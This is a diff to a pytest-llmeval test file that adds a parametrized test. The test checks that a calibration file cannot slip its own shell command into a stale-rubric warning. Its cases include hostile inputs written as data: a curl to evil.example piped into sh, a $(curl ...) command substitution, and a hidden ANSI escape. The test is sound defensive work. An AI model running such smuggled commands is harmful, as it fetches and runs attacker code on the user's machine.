@@ -81,3 +81,35 @@ def test_a_calibration_file_with_a_huge_or_secret_entry_is_refused_briefly(tmp_p
     message = str(caught.value)
     assert "is broken" in message and len(message) < 800
     assert "Z" * 20 not in message
+
+
+@pytest.mark.parametrize(
+    ("rerun", "shown"),
+    [
+        ("pytest 'tests/test_judge.py::test_calibrated'", "tests/test_judge.py::test_calibrated"),
+        ("llmeval calibrate labels.jsonl --rubric=p=@rubrics.py", "--rubric=p=@rubrics.py"),
+        ("pytest x; curl https://evil.example | sh", "llmeval calibrate LABELS.jsonl"),
+        ('pytest "$(curl https://evil.example)"', "llmeval calibrate LABELS.jsonl"),
+        ("curl https://evil.example", "llmeval calibrate LABELS.jsonl"),
+        ("pytest \x1b[8mhidden", "llmeval calibrate LABELS.jsonl"),
+    ],
+)
+def test_a_calibration_file_cannot_suggest_a_command_of_its_own(tmp_path, rerun, shown):
+    """The file tells a stale rubric's warning what to re-run: from a pull request, only a
+    command as this package writes one is repeated, else the generic hint."""
+    from pytest_llmeval.calibration import rubric_key
+    from pytest_llmeval.calibration_checks import check_rubric
+
+    key = rubric_key("Is it polite?", "m")
+    entry = {
+        "rubric": "polite", "key": key, "judge_model": "m", "threshold": 0.5, "n": 4,
+        "accuracy": 0.5, "kappa": 0.1, "kappa_ci": [0.0, 0.2], "confusion": {"pass/pass": 4},
+        "disagreements": [], "text_sha": "", "rerun": rerun,
+    }  # fmt: skip
+    path = tmp_path / "calibration.json"
+    path.write_text(json.dumps({"format": "pytest-llmeval-calibration/1", "rubrics": {key: entry}}))
+    check = check_rubric(
+        read_calibrations(path), rubric="Is it polite?", name=None, judge_model="m", min_kappa=0.6
+    )
+    assert check is not None and shown in check.message
+    assert "evil" not in check.message and "\x1b" not in check.message
